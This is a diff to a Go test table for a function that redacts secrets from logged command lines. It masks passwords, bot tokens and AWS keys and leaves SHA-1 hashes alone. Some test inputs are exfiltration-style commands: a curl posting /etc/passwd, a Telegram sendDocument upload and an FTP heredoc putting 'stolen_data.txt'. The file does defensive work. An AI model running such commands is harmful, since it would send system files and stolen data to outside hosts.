@@ -66,7 +66,14 @@ func TestCommandLine(t *testing.T) {
 		"pscp":                 {[]string{"pscp", "-pw", "x", "f", "u@h:"}, "pscp -pw **** f u@h:"},
 		"smbclient":            {[]string{"smbclient", "-U", "user%pw", "//h/s"}, "smbclient -U **** //h/s"},
 		"telegram":             {[]string{"curl", "https://api.telegram.org/bot123456:AAH-x/sendDocument"}, "curl https://api.telegram.org/****/sendDocument"},
-		"controls":             {[]string{"a\x1b[31m", "b\nc", "\xff"}, "a\uFFFD[31m b c \uFFFD"},
+		"form file with type":  {[]string{"curl", "-F", "file=@/etc/passwd;type=text/plain", "h"}, "curl -F file=@/etc/passwd h"},
+		"the ADS FTP script":   {[]string{"sh", "-c", "ftp -inv h << EOF\nuser username password\nput stolen_data.txt\nquit\nEOF"}, "sh -c ftp -inv h << EOF ; user **** **** ; put stolen_data.txt ; quit ; EOF"},
+		"quoted FTP commands":  {[]string{"sh", "-c", "ftp -n h <<E\nquote USER bob\nquote PASS pw\nput x\nE"}, "sh -c ftp -n h <<E ; quote USER **** ; quote PASS **** ; put x ; E"},
+		"continued lines":      {[]string{"sh", "-c", "mysql \\\n  -ppw \\\n  db"}, "sh -c mysql -p**** db"},
+		"python's auth":        {[]string{"python3", "-c", "put('http://h/x', auth=('user', 'pw'))"}, "python3 -c put(http://h/x, auth=**** ****"},
+		"AWS key pair":         {[]string{"mc", "alias", "set", "m", "https://h", "AKIAIOSFODNN7EXAMPLE", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"}, "mc alias set m https://h **** ****"},
+		"SHA-1 stays":          {[]string{"git", "show", "da39a3ee5e6b4b0d3255bfef95601890afd80709"}, "git show da39a3ee5e6b4b0d3255bfef95601890afd80709"},
+		"controls":             {[]string{"a\x1b[31m", "b\nc", "\xff"}, "a\uFFFD[31m b ; c \uFFFD"},
 	} {
 		t.Run(name, func(t *testing.T) {
 			assert.Equal(t, test.want, CommandLine(test.args))
